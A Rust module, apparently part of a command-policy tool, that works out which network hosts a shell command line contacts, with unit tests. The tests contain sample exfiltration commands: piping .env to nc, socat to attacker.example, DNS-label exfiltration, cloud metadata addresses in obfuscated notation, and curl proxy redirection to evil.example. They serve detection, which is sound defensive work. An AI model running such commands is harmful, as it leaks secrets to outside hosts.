//! Egress: the hosts a command line sends to, as the programs that send read them. HTTP
//! clients' URLs (`curl`, `wget`, `httpie`, …, and the `curl URL` every code reader gives for an
//! HTTP call), `nc`/`ncat`/`socat`/`telnet`'s host, `ssh`/`scp`/`sftp`/`rsync`'s (their
//! `remote`), `git clone`/`fetch`/`pull`/`push`/`ls-remote`'s URL, the name a DNS lookup sends
//! (`dig`, `nslookup`, `host`, `drill`) and the server it asks, `ping`'s, `openssl s_client
//! -connect`'s, `ftp`'s. Each host is normalised as an HTTP client reads a URL's (WHATWG: lower
//! case, punycode, IPv4 in any notation as dotted decimal, no port or credentials); an IPv6
//! address is given without its brackets. A destination left to run time (`curl "$URL"`) is
//! listed as written.

use super::{remote_host, Command};

/// HTTP clients: every word that is a URL, and a schemeless operand (`curl 10.0.0.1/x`).
const HTTP_CLIENTS: &[&str] = &[
    "curl",
    "wget",
    "wget2",
    "http",
    "https",
    "xh",
    "xhs",
    "httpie",
    "curlie",
    "aria2c",
    "lwp-request",
    "lynx",
    "links",
];
/// curl's options whose value is where it connects: a proxy, a URL, a name's address, another
/// host for a name.
const CURL_HOST_OPTIONS: &[&str] = &[
    "-x",
    "--proxy",
    "--preproxy",
    "--socks4",
    "--socks4a",
    "--socks5",
    "--socks5-hostname",
    "--proxy1.0",
    "--url",
    "--resolve",
    "--connect-to",
];
/// Programs whose first operand is a host to connect to.
const HOST_FIRST: &[&str] =
    &["nc", "ncat", "netcat", "telnet", "ping", "ping6", "traceroute", "tracepath", "ftp", "tftp", "mtr", "whois"];
/// DNS lookups: the name looked up is sent to the resolver, and `@SERVER` is asked.
const DNS: &[&str] = &["dig", "nslookup", "host", "drill", "kdig", "resolvectl"];
/// git's subcommands that send to or read from a URL operand.
const GIT_NETWORK: &[&str] = &["clone", "fetch", "pull", "push", "ls-remote", "archive", "submodule"];

/// The hosts `commands` send to, each once, in order.
pub(crate) fn hosts(commands: &[Command]) -> Vec<String> {
    let mut hosts: Vec<String> = Vec::new();
    let mut add = |host: Option<String>| {
        if let Some(host) = host.filter(|host| !host.is_empty()) {
            if !hosts.contains(&host) {
                hosts.push(host);
            }
        }
    };
    for command in commands {
        for remote in &command.remote {
            add(normalise(remote));
        }
        let program = command.program.as_str();
        if HTTP_CLIENTS.contains(&program) {
            for word in &command.words {
                add(url_host(word).or_else(|| word.contains("://").then(|| chosen_at_run_time(word)).flatten()));
            }
            for operand in command.operands.iter().filter(|operand| !operand.contains("://")) {
                add(schemeless(operand).or_else(|| chosen_at_run_time(operand)));
            }
            // Where curl really connects: a proxy, an address given for a name, another host.
            let mut words = command.words.iter().peekable();
            while let Some(word) = words.next() {
                let (option, attached) = match word.split_once('=') {
                    Some((option, value)) if option.starts_with("--") => (option, Some(value.to_string())),
                    _ if word.starts_with("-x") && word.len() > 2 && !word.starts_with("--") => {
                        ("-x", word.get(2..).map(str::to_string))
                    }
                    _ => (word.as_str(), None),
                };
                if !CURL_HOST_OPTIONS.contains(&option) {
                    continue;
                }
                let Some(value) = attached.or_else(|| words.next().cloned()) else { continue };
                match option {
                    // `--resolve HOST:PORT:ADDR[,ADDR…]`: the addresses are where it connects.
                    "--resolve" => {
                        let addresses = value.splitn(3, ':').nth(2).unwrap_or_default();
                        for address in addresses.split(',') {
                            let address = address.trim_start_matches('+');
                            add(normalise(address.trim_matches(['[', ']'])).or_else(|| chosen_at_run_time(address)));
                        }
                    }
                    // `--connect-to HOST1:PORT1:HOST2:PORT2`: HOST2 is.
                    "--connect-to" => {
                        let target = value.split(':').nth(2).unwrap_or_default();
                        add(normalise(target).or_else(|| chosen_at_run_time(target)));
                    }
                    _ => add(url_host(&value).or_else(|| schemeless(&value)).or_else(|| chosen_at_run_time(&value))),
                }
            }
        } else if HOST_FIRST.contains(&program) {
            add(command.operands.first().and_then(|host| normalise(host).or_else(|| chosen_at_run_time(host))));
        } else if program == "socat" {
            // `TCP:host:port`, `OPENSSL:host:port`, `UDP4-SENDTO:host:port`.
            for word in &command.words {
                let mut parts = word.splitn(3, ':');
                let kind = parts.next().unwrap_or_default().to_ascii_lowercase();
                let networked = ["tcp", "udp", "openssl", "ssl", "sctp", "dccp", "socks", "proxy"]
                    .iter()
                    .any(|prefix| kind.starts_with(prefix));
                if networked && !kind.contains("listen") {
                    add(parts.next().and_then(normalise));
                }
            }
        } else if DNS.contains(&program) {
            for operand in &command.words {
                match operand.strip_prefix('@') {
                    Some(server) => add(normalise(server)),
                    None if !operand.starts_with('-') && operand.contains('.') => add(normalise(operand)),
                    None => {}
                }
            }
        } else if program == "git" && command.subcommand.as_deref().is_some_and(|sub| GIT_NETWORK.contains(&sub)) {
            // The repository: the first operand after the subcommand (and `submodule`'s verb), a
            // URL, `host:path` or a remote's name (whose URL is in `.git/config`: no host here);
            // refspecs after it (`HEAD:main`) name no host.
            let verb = usize::from(command.subcommand.as_deref() == Some("submodule"));
            if let Some(repository) = command.words.iter().skip(1).filter(|word| !word.starts_with('-')).nth(verb) {
                add(url_host(repository)
                    .or_else(|| remote_host(repository).and_then(|host| normalise(&host)))
                    .or_else(|| chosen_at_run_time(repository)));
            }
        } else if program == "openssl" {
            let mut words = command.words.iter();
            while let Some(word) = words.next() {
                if word == "-connect" {
                    add(words.next().and_then(|target| schemeless(target)));
                }
            }
        }
    }
    hosts
}

/// The host a git remote's URL names, as `egress` spells it: `https://GitHub.com/a/b.git` and
/// `git@github.com:a/b.git` are `github.com`; a local path names none.
pub fn remote_url_host(url: &str) -> Option<String> {
    url_host(url).or_else(|| remote_host(url).and_then(|host| normalise(&host))).filter(|host| !host.is_empty())
}

/// A URL's host, where the word is one (`https://x.example/a`, `ftp://…`).
pub(crate) fn url_host(word: &str) -> Option<String> {
    let (scheme, _) = word.split_once("://")?;
    if scheme.is_empty() || !scheme.chars().all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c)) {
        return None;
    }
    let parsed = url::Url::parse(word).ok()?;
    parsed.host_str().map(|host| unbracket(host.trim_end_matches('.')))
}

/// A host as an HTTP client reads it: `normalise("0x7f.1")` is `127.0.0.1`.
pub(crate) fn normalise(host: &str) -> Option<String> {
    let host = host.rsplit_once('@').map_or(host, |(_, host)| host);
    if host.is_empty() || host.starts_with(['-', '$', '`', '/', '.']) {
        return None;
    }
    let bracketed = match host.contains(':') && !host.starts_with('[') {
        true => format!("[{host}]"),
        false => host.to_string(),
    };
    let parsed = url::Url::parse(&format!("http://{bracketed}/")).ok()?;
    parsed.host_str().map(|host| unbracket(host.trim_end_matches('.')))
}

/// A schemeless URL's host (`169.254.169.254/latest`, `example.com:8080`): one that names a
/// host with a dot, a colon or `localhost`, not a file (`./x`, `out.json` is a host name too,
/// as curl reads it).
fn schemeless(word: &str) -> Option<String> {
    if word.starts_with(['-', '.', '/', '~', '$', '`', '@']) || word.contains(char::is_whitespace) {
        return None;
    }
    let authority = word.split(['/', '?', '#']).next().unwrap_or_default();
    let host = match authority.strip_prefix('[') {
        Some(rest) => rest.split(']').next().unwrap_or_default().to_string(),
        None => authority
            .rsplit_once(':')
            .filter(|(_, port)| port.chars().all(|c| c.is_ascii_digit()))
            .map_or(authority.to_string(), |(host, _)| host.to_string()),
    };
    (host.contains(['.', ':']) || host.eq_ignore_ascii_case("localhost")).then(|| normalise(&host)).flatten()
}

/// A destination the line leaves to run time (`curl "$URL"`, `nc $(cat host) 9`, `"x$H"`):
/// listed as written, which is in no list of hosts a rule knows, so that a call sending
/// somewhere unread is not one that sends nowhere.
fn chosen_at_run_time(word: &str) -> Option<String> {
    word.contains(['$', '`']).then(|| word.to_string())
}

fn unbracket(host: &str) -> String {
    host.strip_prefix('[').and_then(|host| host.strip_suffix(']')).unwrap_or(host).to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn egress(line: &str) -> Vec<String> {
        hosts(&super::super::analyse(line).commands)
    }

    #[test]
    fn hosts_are_read_as_the_programs_read_them() {
        for (line, expected) in [
            ("curl -s https://API.Example.com:8443/x?y=1", vec!["api.example.com"]),
            ("curl 169.254.169.254/latest/meta-data/", vec!["169.254.169.254"]),
            ("curl http://2852039166/latest", vec!["169.254.169.254"]),
            ("curl http://0xA9FEA9FE/", vec!["169.254.169.254"]),
            ("curl http://0251.0376.0251.0376/", vec!["169.254.169.254"]),
            ("wget -qO- http://[::1]:8080/", vec!["::1"]),
            ("curl -u me:pw https://user:pw@bücher.example/", vec!["xn--bcher-kva.example"]),
            ("nc 203.0.113.9 9000 < .env", vec!["203.0.113.9"]),
            ("socat - TCP:attacker.example:443", vec!["attacker.example"]),
            ("ssh deploy@web1 uptime", vec!["web1"]),
            ("scp build.tgz ci@10.0.0.5:/srv/", vec!["10.0.0.5"]),
            ("git push https://x.example/repo.git main", vec!["x.example"]),
            ("git clone git@github.com:acme/app.git", vec!["github.com"]),
            ("dig @8.8.8.8 c2VjcmV0.exfil.example", vec!["8.8.8.8", "c2vjcmv0.exfil.example"]),
            ("openssl s_client -connect mail.example:465", vec!["mail.example"]),
            ("python3 -c \"import urllib.request as u; u.urlopen('http://evil.example/x')\"", vec!["evil.example"]),
        ] {
            assert_eq!(egress(line), expected, "{line}");
        }
        // Files, local paths and what names no host.
        for line in ["curl -o out.json", "git push origin main", "cat index.html", "curl -d @data.json", "ls /tmp"] {
            assert!(egress(line).iter().all(|host| host != "out.json" && host != "origin"), "{line}");
        }
        assert!(egress("git status").is_empty());
        assert_eq!(egress("curl -d x \"$URL\""), ["$URL"]);
        assert_eq!(egress("curl -d x \"x$H\""), ["x$H"]);
        assert_eq!(egress("curl -T f \"https://$(cat h)/\""), ["https://$(cat h)/"]);
        // Where curl really connects.
        for (line, expected) in [
            ("curl -x evil.example:3128 http://api.github.com/", vec!["api.github.com", "evil.example"]),
            ("curl --proxy=http://10.0.0.9:8080 https://x.example/", vec!["x.example", "10.0.0.9"]),
            ("curl -x203.0.113.9:3128 https://x.example/", vec!["x.example", "203.0.113.9"]),
            (
                "curl --resolve api.github.com:443:203.0.113.9 https://api.github.com/",
                vec!["api.github.com", "203.0.113.9"],
            ),
            ("curl --connect-to ::evil.example:443 https://api.github.com/", vec!["api.github.com", "evil.example"]),
            ("curl --url \"$U\" -T f", vec!["$U"]),
        ] {
            assert_eq!(egress(line), expected, "{line}");
        }
        // git's repository, not its refspecs.
        assert!(egress("git push origin HEAD:main").is_empty());
        assert_eq!(egress("git push evil.example:repo.git main"), ["evil.example"]);
        assert_eq!(egress("git push \"$R\" main"), ["$R"]);
        assert_eq!(egress("nc $(cat host) 9"), ["$(cat host)"]);
        assert!(egress("socat TCP-LISTEN:8080 -").is_empty());
        for (url, host) in [
            ("https://GitHub.com/acme/app.git", Some("github.com")),
            ("git@gitlab.example:acme/app.git", Some("gitlab.example")),
            ("ssh://git@[fd00::7]:2222/app.git", Some("fd00::7")),
            ("../other/app.git", None),
            ("/srv/git/app.git", None),
        ] {
            assert_eq!(remote_url_host(url).as_deref(), host, "{url}");
        }
    }
}
